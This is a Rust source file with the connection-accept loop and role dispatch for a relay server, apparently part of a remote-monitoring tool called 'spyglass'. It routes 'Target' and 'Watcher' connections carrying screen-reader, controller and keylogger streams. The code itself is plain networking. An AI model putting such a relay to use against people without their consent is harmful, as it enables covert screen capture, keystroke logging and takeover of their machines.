//! Accept loop and role dispatch.

use std::net::SocketAddr;
use std::sync::Arc;

use spyglass_core::{AccessCode, Component, FramedChannel, Reason, Reply, Role};
use tokio::net::TcpListener;
use tracing::{debug, error, info, warn};

use crate::error::HandlerError;
use crate::{metrics, target, watcher, PeerStream, ServerContext};

/// Accepts until shutdown, handing each socket to its own task.
pub async fn run(listener: TcpListener, ctx: Arc<ServerContext>) {
    loop {
        tokio::select! {
            _ = ctx.shutdown.cancelled() => {
                info!("accept loop stopping");
                return;
            }
            accepted = listener.accept() => match accepted {
                Ok((stream, peer)) => {
                    if let Err(err) = stream.set_nodelay(true) {
                        debug!(%peer, error = %err, "failed to set TCP_NODELAY");
                    }
                    let ctx = ctx.clone();
                    tokio::spawn(async move { handle_connection(stream, peer, ctx).await });
                }
                Err(err) => {
                    error!(error = %err, "failed to accept connection");
                }
            }
        }
    }
}

/// Reads the role tag and runs the matching handler to completion.
pub async fn handle_connection<S: PeerStream>(stream: S, peer: SocketAddr, ctx: Arc<ServerContext>) {
    let mut channel = FramedChannel::new(stream, ctx.codec);
    let role = match read_role(&mut channel).await {
        Ok(Some(role)) => role,
        Ok(None) => {
            debug!(%peer, "peer left before sending a role tag");
            return;
        }
        Err(err) => {
            warn!(%peer, error = %err, "rejecting connection with a bad role tag");
            metrics::PROTOCOL_VIOLATIONS
                .with_label_values(&["unknown"])
                .inc();
            channel.shutdown().await;
            return;
        }
    };
    metrics::CONNECTIONS_ACCEPTED
        .with_label_values(&[role.as_str()])
        .inc();
    debug!(%peer, %role, "connection classified");

    match dispatch(role, channel, peer, ctx).await {
        Ok(()) => debug!(%peer, %role, "connection closed"),
        Err(err) if err.is_protocol() => {
            warn!(%peer, %role, error = %err, "closing connection after protocol violation");
            metrics::PROTOCOL_VIOLATIONS
                .with_label_values(&[role.as_str()])
                .inc();
        }
        Err(err) => debug!(%peer, %role, error = %err, "connection dropped"),
    }
}

async fn dispatch<S: PeerStream>(
    role: Role,
    channel: FramedChannel<S>,
    peer: SocketAddr,
    ctx: Arc<ServerContext>,
) -> Result<(), HandlerError> {
    match role {
        Role::Target => target::serve_primary(channel, peer, ctx).await,
        Role::TargetScreenReader => {
            target::serve_component(Component::ScreenReader, channel, peer, ctx).await
        }
        Role::TargetController => {
            target::serve_component(Component::Controller, channel, peer, ctx).await
        }
        Role::TargetKeylogger => {
            target::serve_component(Component::Keylogger, channel, peer, ctx).await
        }
        Role::Watcher => watcher::serve_primary(channel, peer, ctx).await,
        Role::WatcherScreenReader => {
            watcher::serve_component(Component::ScreenReader, channel, peer, ctx).await
        }
        Role::WatcherController => {
            watcher::serve_component(Component::Controller, channel, peer, ctx).await
        }
        Role::WatcherKeylogger => {
            watcher::serve_component(Component::Keylogger, channel, peer, ctx).await
        }
    }
}

/// `Ok(None)` for a disconnect or an empty tag.
async fn read_role<S: PeerStream>(
    channel: &mut FramedChannel<S>,
) -> Result<Option<Role>, HandlerError> {
    let Some(tag) = channel.recv().await? else {
        return Ok(None);
    };
    match tag.as_ref() {
        [] => Ok(None),
        [byte] => Ok(Some(Role::try_from(*byte)?)),
        other => Err(HandlerError::Protocol(format!(
            "role tag of {} bytes",
            other.len()
        ))),
    }
}

/// Reads an access code frame. `Ok(None)` for a disconnect or an empty code.
pub(crate) async fn read_access_code<S: PeerStream>(
    channel: &mut FramedChannel<S>,
) -> Result<Option<AccessCode>, HandlerError> {
    let Some(payload) = channel.recv().await? else {
        return Ok(None);
    };
    if payload.is_empty() {
        return Ok(None);
    }
    AccessCode::from_frame(&payload)
        .map(Some)
        .ok_or_else(|| HandlerError::Protocol("access code is not valid utf-8".into()))
}

/// Sends a refusal and closes the connection.
pub(crate) async fn reject<S: PeerStream>(
    mut channel: FramedChannel<S>,
    role: Role,
    reason: Reason,
) -> Result<(), HandlerError> {
    metrics::ADMISSIONS_REJECTED
        .with_label_values(&[role.as_str(), reason.as_str()])
        .inc();
    let sent = channel.send(&Reply::Rejected(reason).encode()).await;
    channel.shutdown().await;
    sent.map_err(HandlerError::from)
}
